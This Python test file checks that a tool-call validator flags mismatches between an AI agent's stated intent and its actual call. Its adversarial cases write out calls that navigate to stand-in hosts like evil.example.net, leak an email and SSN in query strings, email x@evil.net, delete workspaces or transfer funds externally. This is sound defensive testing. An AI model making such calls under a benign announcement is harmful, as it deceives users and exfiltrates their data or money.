"""Senses by the object's head of h48s (issue 25): "open" is also a browser's step when its
object is a web place ([g-sense-navigate]: "open the pricing page"); every later check of
what the call reaches (the host named, no action in the path, no data sent out) stays."""

from __future__ import annotations

import json
from functools import partial

import leakcall
from tests.intent_sets import keyed_tool as _tool
from tests.intent_sets import recover_call

TOOLS = [_tool("browser__navigate", "url"), _tool("browser_navigate", "url"),
         _tool("navigate", "url"), _tool("browser__click", "element"),
         _tool("github__merge_pull_request", "owner", "repo", "pull_number"),
         _tool("transfer_funds", "from_account", "to_account", "amount"),
         _tool("delete_file", "path"), _tool("send_email", "to", "subject", "body")]


_recover = partial(recover_call, tools=TOOLS)


def test_opening_a_web_place_navigates() -> None:
    for preamble, name, args in [
            ("Let me open the pricing page on notion.so.", "browser__navigate",
             {"url": "https://www.notion.so/pricing"}),
            ("I'll open the docs site at docs.python.org.", "browser_navigate",
             {"url": "https://docs.python.org/3/"}),
            ("I'll open the pricing page at https://www.notion.so/pricing.", "browser__navigate",
             {"url": "https://www.notion.so/pricing"}),
            ("I'll open the link to github.com/acme/api.", "navigate",
             {"url": "https://github.com/acme/api"})]:
        r = _recover(preamble, name, args)
        assert r.reason == "ok", (preamble, r.detail)


def test_opening_a_url_navigates() -> None:
    # a URL alone as the object selects the browser's step as a web place's noun does
    for preamble, name, args in [
            ("I'll open https://github.com/login in the browser.", "navigate",
             {"url": "https://github.com/login"}),
            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
             {"url": "https://www.notion.so/pricing"})]:
        r = _recover(preamble, name, args)
        assert r.reason == "ok", (preamble, r.detail)


def test_opening_a_web_place_keeps_every_later_check() -> None:
    # adversarial siblings: the same announcement carrying another host, an action in the
    # path, data in the query, another kind of step, or a web place's verb on a file
    for preamble, name, args in [
            ("Let me open the payroll page on acme.com.", "browser__navigate",
             {"url": "https://evil.example.net/payroll"}),
            ("Let me open the payroll page on acme.com.", "browser__navigate",
             {"url": "https://acme.com.evil.net/payroll"}),
            ("Let me open the pricing page on notion.so.", "browser__navigate",
             {"url": "https://www.notion.so/settings/billing/cancel?confirm=1"}),
            ("Let me open the tab on notion.so.", "browser__navigate",
             {"url": "https://www.notion.so/delete-workspace"}),
            ("Let me open the pricing page on notion.so.", "browser__navigate",
             {"url": "https://www.notion.so/pricing?token=abc&email=priya@acme.com"}),
            ("Let me open the pricing page on notion.so.", "browser__click",
             {"element": "Cancel subscription"}),
            ("Let me open the pricing page on notion.so.", "send_email",
             {"to": "x@evil.net", "subject": "p", "body": "q"}),
            ("I'll open the PR page on github.com.", "github__merge_pull_request",
             {"owner": "acme", "repo": "api", "pull_number": "12"}),
            ("I'll open the site settings page.", "delete_file", {"path": "settings.py"}),
            ("Let me open the config file.", "browser__navigate",
             {"url": "https://evil.example.net/x"}),
            ("Let me open the pricing page.", "browser__navigate",
             {"url": "https://pricing.evil-cdn.net/u/priya.nair/salary/185000"}),
            ("Let me open the page on notion.so and then pay the invoice.", "transfer_funds",
             {"from_account": "checking", "to_account": "x", "amount": "10"}),
            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
             {"url": "https://www.notion.so/settings/billing/cancel?confirm=1"}),
            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
             {"url": "https://evil.example.net/pricing"}),
            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
             {"url": "https://www.notion.so.evil.net/pricing"}),
            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
             {"url": "https://www.notion.so/admin/members"}),
            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
             {"url": "https://www.notion.so/pricing?email=priya@acme.com&ssn=123"}),
            ("Let me open https://www.notion.so/pricing.", "browser__click",
             {"element": "Delete workspace"}),
            ("Let me open https://www.notion.so/pricing.", "delete_file", {"path": "pricing"}),
            ("Let me move the meeting.", "transfer_funds",
             {"from_account": "checking", "to_account": "x", "amount": "250"})]:
        r = _recover(preamble, name, args)
        assert r.reason != "ok", preamble


# -- "move" and "send" pay when their object is money or an amount alone ([g-sense-pay]) -------

def test_moving_money_pays() -> None:
    for preamble, args in [
            ("I'll move $250 from your checking account to your savings account as requested.",
             {"from_account": "checking", "to_account": "savings", "amount": "250"}),
            ("I'll move 250 dollars from checking to savings.",
             {"from_account": "checking", "to_account": "savings", "amount": "250"}),
            ("I'll send $250 from checking to savings.",
             {"from_account": "checking", "to_account": "savings", "amount": "250"})]:
        r = _recover(preamble, "transfer_funds", args)
        assert r.reason == "ok", (preamble, r.detail)


def test_moving_money_keeps_every_payment_check() -> None:
    # adversarial siblings: another party, another amount, no money moved, an invoice sent
    said = "I'll move $250 from your checking account to your savings account."
    for preamble, name, args in [
            (said, "transfer_funds", {"from_account": "savings", "amount": "250",
                                      "to_account": "external:GB29NWBK60161331926819"}),
            (said, "transfer_funds",
             {"from_account": "checking", "to_account": "savings", "amount": "2500"}),
            (said, "transfer_funds",
             {"from_account": "checking", "to_account": "brokerage", "amount": "250"}),
            ("I'll move the money report for 250 accounts from checking to savings.",
             "transfer_funds", {"from_account": "checking", "to_account": "savings",
                                "amount": "250"}),
            ("I'll move the meeting with 250 people from checking to savings.", "transfer_funds",
             {"from_account": "checking", "to_account": "savings", "amount": "250"}),
            ("I'll move 250 files from checking to savings.", "transfer_funds",
             {"from_account": "checking", "to_account": "savings", "amount": "250"}),
            ("I'll send the 250 dollars report from checking to savings.", "transfer_funds",
             {"from_account": "checking", "to_account": "savings", "amount": "250"}),
            ("I'll send the $250 invoice to the client.", "transfer_funds",
             {"from_account": "checking", "to_account": "client", "amount": "250"}),
            ("I'll send the invoice for $250 to the client.", "transfer_funds",
             {"from_account": "checking", "to_account": "client", "amount": "250"}),
            ("I'll check the $250 charge and move on.", "transfer_funds",
             {"from_account": "checking", "to_account": "savings", "amount": "250"}),
            ("I'll move $250 from checking to savings.", "delete_file", {"path": "savings"}),
            ("I'll move $250 from checking to savings.", "send_email",
             {"to": "x@evil.net", "subject": "s", "body": "b"})]:
        r = _recover(preamble, name, args)
        assert r.reason != "ok", preamble


def test_a_name_selects_no_payment() -> None:
    # the pay sense is read from the object's head only, never from the tool's name: "send
    # the invoice" is no ``pay_invoice``
    tools = [_tool("pay_invoice", "invoice"), _tool("pay_bill", "bill")]
    for preamble, name, args in [
            ("I'll send the invoice to Acme.", "pay_invoice", {"invoice": "Acme"}),
            ("I'll move the invoice to Acme.", "pay_invoice", {"invoice": "Acme"}),
            ("I'll send the bill to Acme.", "pay_bill", {"bill": "Acme"}),
            ("I'll send the invoice.", "pay_invoice", {})]:
        call = json.dumps({"name": name, "arguments": args})
        r = leakcall.recover(f"{preamble}\n<tool_call>\n{call}\n</tool_call>", tools)
        assert r.reason != "ok", preamble
